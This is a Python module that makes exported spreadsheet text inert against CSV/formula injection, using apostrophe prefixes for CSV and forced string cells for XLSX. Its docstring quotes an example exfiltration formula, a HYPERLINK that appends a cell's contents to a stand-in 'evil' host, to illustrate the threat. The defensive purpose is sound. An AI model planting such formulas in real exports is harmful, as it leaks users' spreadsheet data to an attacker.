"""Text that a spreadsheet would run as a formula, made inert (OWASP "CSV injection").

A comment or a name such as `=HYPERLINK("http://evil/?"&A1, "click")` typed by one user
becomes a live formula in another user's Excel when exported. Every export a person
opens in a spreadsheet writes its cells through here:

- CSV downloads: a text cell beginning with = + - @, a tab or a carriage return gets a
  leading apostrophe, which spreadsheets show as text. Numbers (also negative numbers
  formatted as text, "-5", "-1.5e-3") stay as they are.
- XLSX: text is always written as a string cell (type "s"), never a formula, so the
  text is kept exactly.

The command-line data exports (`miara export`, CSV and JSON) are files for programs and
keep the exact text; see docs/architecture.md.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?|[+-]?(inf|nan)")


def csv_text(value):
    """`value` as a CSV download should hold it: inert text, numbers untouched."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def xlsx_value(cell, value) -> None:
    """Set an openpyxl cell (ordinary or write-only) to `value`, text never a formula."""
    cell.value = value
    if isinstance(value, str):
        # openpyxl makes any str starting with "=" a formula; a string cell it must be.
        cell.data_type = "s"


def xlsx_row(sheet, values) -> list:
    """Cells for `sheet.append()` (ordinary or write-only sheet), text never a formula."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        cell = WriteOnlyCell(sheet)
        xlsx_value(cell, value)
        cells.append(cell)
    return cells


def xlsx_inert(workbook) -> None:
    """Turn every text cell of an (ordinary, not write-only) openpyxl workbook that openpyxl
    took for a formula back into a string cell; call it just before saving.

    miara writes no formulas of its own, so any formula cell is text that began with "=".
    """
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" and isinstance(cell.value, str):
                    cell.data_type = "s"
